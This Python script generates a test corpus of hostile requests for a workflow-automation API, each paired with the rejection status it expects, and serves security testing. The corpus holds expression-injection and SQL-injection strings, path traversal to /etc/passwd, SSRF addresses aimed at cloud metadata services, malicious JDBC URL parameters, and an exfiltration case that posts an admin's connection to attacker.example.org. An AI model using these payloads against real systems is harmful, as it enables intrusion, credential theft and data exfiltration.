#!/usr/bin/env python3
"""Writes the hostile-input corpus: one JSON file per request, with the status and error path it must get.

Run from this directory: python3 generate.py. Each file holds method, endpoint ({webhook} stands for the URL of
a deployed webhook workflow), content_type, body (the exact text sent), expected_status and expected_path (the
start of the path of one of the answer's errors), and who sends it ("as": "editor"; an admin when absent). In a
body, {admin_connection} stands for an admin's http connection that is shared with no one.
"""
import json, os, glob

PAYLOADS = ["T(java.lang.Runtime).getRuntime().exec('id')", "${T(java.lang.System).getenv('HOME')}",
            "#{systemProperties['user.home']}", "$simple{sys.user.home}", "{{env:HOME}}", "{{sys:user.home}}",
            "{{file:/etc/passwd}}", "{{ {{env:HOME}} }}", "'; DROP TABLE workflows; --", "../../../../etc/passwd",
            "<script>alert(1)</script>", "\u0000nul", "CamelHttpUri", "%00%2e%2e", "x" * 300]

STEP = {"action_type": "control.wait", "config": {"duration_seconds": 0}}
TRIGGER = {"type": "manual", "config": {}}
cases = []


def add(name, method, endpoint, body, status, path, content_type="application/json", actor="admin", headers=None):
    text = body if isinstance(body, str) else json.dumps(body)
    case = {"method": method, "endpoint": endpoint, "content_type": content_type, "body": text,
            "expected_status": status, "expected_path": path}
    if actor != "admin":
        case["as"] = actor
    if headers:
        case["headers"] = headers
    cases.append((name, case))


def definition(**fields):
    d = {"name": "hostile", "trigger": TRIGGER, "steps": [STEP]}
    d.update(fields)
    return {k: v for k, v in d.items() if v is not None}


for i, p in enumerate(PAYLOADS):
    add(f"action-type-{i}", "POST", "/api/workflows", definition(steps=[{"action_type": p, "config": {}}]), 422,
        "steps[0].action_type")
    add(f"trigger-type-{i}", "POST", "/api/workflows", definition(trigger={"type": p, "config": {}}), 422,
        "trigger.type")
    add(f"step-config-{i}", "POST", "/api/workflows", definition(steps=[{"action_type": "control.wait", "config": p}]),
        422, "steps[0].config")
    add(f"step-number-{i}", "POST", "/api/workflows",
        definition(steps=[dict(STEP, step_number=p)]), 422, "steps[0].step_number")
    add(f"wait-duration-{i}", "POST", "/api/workflows",
        definition(steps=[{"action_type": "control.wait", "config": {"duration_seconds": p}}]), 422,
        "steps[0].config.duration_seconds")
    add(f"status-filter-{i}", "GET", "/api/executions?status=" + __import__("urllib.parse").parse.quote(p), None, 400,
        "status")
    add(f"user-role-{i}", "POST", "/api/users", {"username": "u" + str(i), "password": "long-enough-pass", "role": p},
        400, "role")
    add(f"unknown-webhook-{i}", "POST", "/webhooks/workflow/unknownWebhookId0000000000000" + str(i), {"a": p}, 404,
        "webhook_id")

structural = [
    ("no-name", definition(name=None), "name"), ("name-number", definition(name=42), "name"),
    ("name-blank", definition(name="  "), "name"), ("name-long", definition(name="n" * 300), "name"),
    ("no-trigger", definition(trigger=None), "trigger"), ("trigger-string", definition(trigger="webhook"), "trigger"),
    ("trigger-config-list", definition(trigger={"type": "manual", "config": []}), "trigger.config"),
    ("no-steps", definition(steps=None), "steps"), ("steps-object", definition(steps={"a": 1}), "steps"),
    ("steps-empty", definition(steps=[]), "steps"), ("step-string", definition(steps=["x"]), "steps[0]"),
    ("step-null", definition(steps=[None]), "steps[0]"),
    ("too-many-steps", definition(steps=[STEP] * 101), "steps"),
    ("timeout-negative", definition(steps=[dict(STEP, timeout_seconds=-1)]), "steps[0].timeout_seconds"),
    ("timeout-huge", definition(steps=[dict(STEP, timeout_seconds=10 ** 9)]), "steps[0].timeout_seconds"),
    ("http-no-url", definition(steps=[{"action_type": "http.request", "config": {}}]), "steps[0].config.url"),
    ("definition-array", [1, 2], "$"), ("definition-string", "\"workflow\"", "$"),
    ("definition-too-large", definition(description="d" * 300_000), "$"),
    ("duplicate-step-numbers", definition(steps=[dict(STEP, step_number=1), dict(STEP, step_number=1)]),
     "steps[1].step_number"),
]
for name, body, path in structural:
    add("definition-" + name, "POST", "/api/workflows", body, 422, path)

malformed = ["{", "{\"name\": }", "[", "{\"a\":1,}", "nul", "{'name':'x'}", "{\"name\":\"x\"}}", "\u00ff\u00fe",
             "{\"name\": \"\\uZZZZ\"}", "{\"name\": \"unterminated}"]
for i, body in enumerate(malformed):
    add(f"malformed-{i}", "POST", "/api/workflows", body, 400, "$")
    add(f"webhook-malformed-{i}", "POST", "{webhook}", body, 400, "webhook_data")
for depth in (65, 100, 500, 2000, 10000):
    add(f"deep-array-{depth}", "POST", "/api/workflows", "[" * depth + "]" * depth, 400, "$")
    add(f"deep-object-{depth}", "POST", "/api/workflows", "{\"a\":" * depth + "1" + "}" * depth, 400, "$")
    add(f"webhook-deep-{depth}", "POST", "{webhook}", "[" * depth + "]" * depth, 400, "webhook_data")

for name, query, path in [("limit-zero", "limit=0", "limit"), ("limit-huge", "limit=100000", "limit"),
                          ("limit-text", "limit=abc", "limit"), ("offset-negative", "offset=-1", "offset"),
                          ("workflow-id", "workflow_id=not-a-uuid", "workflow_id"), ("from-date", "from=yesterday", "from"),
                          ("to-date", "to=%27%20OR%201=1", "to")]:
    add("executions-" + name, "GET", "/api/executions?" + query, None, 400, path)
    add("audit-" + name, "GET", "/api/audit?" + query.replace("workflow_id=not-a-uuid", "limit=-5"), None, 400,
        path if path != "workflow_id" else "limit")
add("execution-id", "GET", "/api/executions/1%20OR%201=1", None, 400, "id")
add("workflow-id", "GET", "/api/workflows/not-a-uuid", None, 400, "id")
for name, body, path in [("no-username", {"password": "long-enough-pass", "role": "viewer"}, "username"),
                         ("bad-username", {"username": "a b/c", "password": "long-enough-pass", "role": "viewer"}, "username"),
                         ("short-password", {"username": "shorty", "password": "x", "role": "viewer"}, "password"),
                         ("no-role", {"username": "norole", "password": "long-enough-pass"}, "role")]:
    add("user-" + name, "POST", "/api/users", body, 400, path)
add("token-no-name", "POST", "/api/tokens", {}, 400, "name")
add("token-long-name", "POST", "/api/tokens", {"name": "t" * 101}, 400, "name")
add("token-name-number", "POST", "/api/tokens", "{\"name\": [1]}", 400, "$")

# Second round: out-of-range values and addresses the outbound guard refuses fail when saved, not when run.
def step(action, config):
    return definition(steps=[{"action_type": action, "config": config}])


LOOP_BODY = [{"action_type": "control.wait", "config": {"duration_seconds": 0}}]
for name, action, field, value in [
        ("loop-zero", "control.loop", "max_iterations", 0), ("loop-negative", "control.loop", "max_iterations", -1),
        ("loop-huge", "control.loop", "max_iterations", 10001), ("loop-billion", "control.loop", "max_iterations", 10 ** 9),
        ("wait-negative", "control.wait", "duration_seconds", -1),
        ("wait-31-days", "control.wait", "duration_seconds", 2592001),
        ("wait-huge", "control.wait", "duration_seconds", 1e308),
        ("http-timeout-zero", "http.request", "timeout_seconds", 0),
        ("http-timeout-huge", "http.request", "timeout_seconds", 601),
        ("file-size-zero", "file.upload", "max_size_mb", 0), ("file-size-huge", "file.upload", "max_size_mb", 101),
        ("rows-zero", "database.query", "max_rows", 0), ("rows-huge", "database.query", "max_rows", 10001)]:
    base = {"control.loop": {"items_field": "trigger.items", "loop_actions": LOOP_BODY},
            "control.wait": {}, "http.request": {"url": "https://api.example.org/x"},
            "file.upload": {"source_url": "https://files.example.org/a.csv"},
            "database.query": {"connection": "db", "query": "SELECT 1"}}[action]
    add("range-" + name, "POST", "/api/workflows", step(action, dict(base, **{field: value})), 422,
        "steps[0].config." + field)
for i, url in enumerate(["http://169.254.169.254/latest/meta-data/", "http://[::ffff:169.254.169.254]/",
                         "http://metadata.google.internal/computeMetadata/v1/", "http://127.0.0.2:8080/",
                         "http://[::1]/", "http://0.0.0.0/", "http://10.0.0.1/", "http://192.168.1.1/",
                         "http://172.16.0.1/", "http://[fe80::1]/", "http://[fd00::1]/", "http://2130706433/",
                         "http://0x7f.1/", "http://intranet/", "http://printer.local/", "file:///etc/passwd",
                         "gopher://127.0.0.1:70/_x", "dict://127.0.0.1:11211/", "jar:http://a.example/a.jar!/",
                         "ftp://files.example.org/", "http://169.254.169.254/{{webhook_data.path}}"]):
    add(f"address-{i}", "POST", "/api/workflows", step("http.request", {"url": url}), 422, "steps[0].config.url")
    add(f"file-address-{i}", "POST", "/api/workflows", step("file.upload", {"source_url": url}), 422,
        "steps[0].config.source_url")
add("loops-over-budget", "POST", "/api/workflows",
    step("control.loop", {"items_field": "trigger.items", "max_iterations": 10000, "loop_actions": [
        {"action_type": "control.loop", "config": {"items_field": "loop.item", "max_iterations": 10000,
                                                   "loop_actions": LOOP_BODY}}]}), 422,
    "steps[0].config.loop_actions[0].config.max_iterations")

# Connections and database steps (issue 11, points 2 and 4): an editor using an admin's connection, connections
# named by templates, more than one SQL statement, connections the API must refuse.
EXFIL = {"url": "https://attacker.example.org/collect", "connection": "{admin_connection}"}
add("editor-uses-admin-connection", "POST", "/api/workflows", step("http.request", EXFIL), 422,
    "steps[0].config.connection", actor="editor")
add("editor-tests-admin-connection", "POST", "/api/workflows/test", {"workflow": step("http.request", EXFIL),
    "test_data": {}}, 422, "steps[0].config.connection", actor="editor")
add("editor-nests-admin-connection", "POST", "/api/workflows", step("control.condition", {
    "conditions": [{"field": "trigger.type", "operator": "equals", "value": "manual"}],
    "then_actions": [{"action_type": "http.request", "config": EXFIL}]}), 422,
    "steps[0].config.then_actions[0].config.connection", actor="editor")
add("admin-connection-to-other-host", "POST", "/api/workflows", step("http.request", EXFIL), 422,
    "steps[0].config.url")
for i, (action, config) in enumerate([
        ("http.request", {"url": "https://api.example.org/", "connection": "{{webhook_data.connection}}"}),
        ("database.query", {"connection": "{{trigger.db}}", "query": "SELECT 1"}),
        ("slack.send_message", {"connection": "{{webhook_data.c}}", "text": "x"}),
        ("email.send", {"connection": "{{webhook_data.c}}", "to": "a@example.org", "subject": "s", "body": "b"})]):
    add(f"connection-template-{i}", "POST", "/api/workflows", step(action, config), 422, "steps[0].config.connection")
for i, sql in enumerate(["select 1; commit; create table hacked (id int)", "select 1;;select 2",
                         "SELECT E'\\''; DROP TABLE workflows; --'", "select $$a$$; copy t to program 'id'",
                         "select 1 /* a */; select 2 -- b"]):
    add(f"sql-statements-{i}", "POST", "/api/workflows", step("database.query", {"connection": "db", "query": sql}),
        422, "steps[0].config.query")
for i, (fields, path) in enumerate([
        ({"bearer_token": "x"}, "fields.allowed_hosts"), ({"allowed_hosts": "https://api.example.org/"},
                                                          "fields.allowed_hosts"),
        ({"allowed_hosts": "api.example.org:99999"}, "fields.allowed_hosts"),
        ({"allowed_hosts": "*"}, "fields.allowed_hosts")]):
    add(f"connection-http-{i}", "POST", "/api/connections", {"name": f"hostile-http-{i}", "type": "http",
        "fields": fields}, 422, path)
for i, url in enumerate(["jdbc:postgresql://db.example.org/x?socketFactory=java.io.FileOutputStream",
                         "jdbc:postgresql://db.example.org/x?sslfactory=org.example.Evil",
                         "jdbc:postgresql://db.example.org/x?options=-c%20default_transaction_read_only=off",
                         "jdbc:postgresql://db.example.org/x?preferQueryMode=simple",
                         "jdbc:postgresql://db.example.org/x?loggerFile=/tmp/x", "jdbc:mysql://db.example.org/x",
                         "jdbc:postgresql://a.example.org,b.example.org/x", "jdbc:postgresql://user:pw@db.example.org/x"]):
    add(f"connection-database-url-{i}", "POST", "/api/connections", {"name": f"hostile-db-{i}", "type": "database",
        "fields": {"url": url}}, 422, "fields.url")
add("connection-share-role", "POST", "/api/connections", {"name": "hostile-share-role", "type": "http",
    "fields": {"allowed_hosts": "api.example.org"}, "shared_with": {"roles": ["admin"]}}, 422, "shared_with.roles[0]")
add("connection-share-user", "POST", "/api/connections", {"name": "hostile-share-user", "type": "http",
    "fields": {"allowed_hosts": "api.example.org"}, "shared_with": {"users": ["nobody-here"]}}, 422,
    "shared_with.users[0]")
for i, (ctype, fields, path) in enumerate([
        ("smtp", {"host": "10.0.0.5", "port": "25"}, "fields.host"),
        ("smtp", {"host": "mail.internal", "port": "25"}, "fields.host"),
        ("database", {"url": "jdbc:postgresql://169.254.169.254:5432/x"}, "fields.url"),
        ("database", {"url": "jdbc:postgresql://db.corp/x"}, "fields.url"),
        ("notion", {"token": "t", "base_url": "http://[::ffff:10.0.0.1]/"}, "fields.base_url"),
        ("slack", {"webhook_url": "http://metadata.google.internal/x"}, "fields.webhook_url")]):
    add(f"editor-connection-internal-{i}", "POST", "/api/connections", {"name": f"hostile-internal-{i}",
        "type": ctype, "fields": fields}, 422, path, actor="editor")
add("editor-reserved-connection-name", "POST", "/api/connections", {"name": "slack", "type": "slack",
    "fields": {"webhook_url": "https://hooks.example.org/x"}}, 422, "name", actor="editor")

# Webhook bodies (issue 11.8): encodings other than gzip and charsets Java does not know answer 415, a body that
# claims gzip and is not 400, never a 500; a webhook's rate limit and replay refusal are checked when saved.
for i, encoding in enumerate(["br", "deflate", "compress", "zstd", "gzip, br", "x-unknown", "gzip;q=1"]):
    add(f"webhook-encoding-{i}", "POST", "{webhook}", {"a": 1}, 415, "webhook_data",
        headers={"Content-Encoding": encoding})
add("webhook-not-gzip", "POST", "{webhook}", {"a": 1}, 400, "webhook_data", headers={"Content-Encoding": "gzip"})
for i, charset in enumerate(["x-klingon", "", "utf-9", "../../etc/passwd", "\"\"", "%00", "UTF-8x"]):
    add(f"webhook-charset-{i}", "POST", "{webhook}", {"a": 1}, 415, "webhook_data",
        content_type="application/json; charset=" + charset)
for i, limit in enumerate([0, -1, 600001, 10 ** 12, "many", 1.5, True]):
    add(f"webhook-rate-limit-{i}", "POST", "/api/workflows",
        definition(trigger={"type": "webhook", "config": {"rate_limit_per_minute": limit}}), 422,
        "trigger.config.rate_limit_per_minute")
add("webhook-refuse-replays-text", "POST", "/api/workflows",
    definition(trigger={"type": "webhook", "config": {"refuse_replays": "yes"}}), 422, "trigger.config.refuse_replays")

for old in glob.glob("cases/*.json"):
    os.remove(old)
os.makedirs("cases", exist_ok=True)
for n, (name, case) in enumerate(cases):
    with open(f"cases/{n:03d}-{name}.json", "w") as f:
        json.dump(case, f, indent=1)
print(len(cases), "cases")
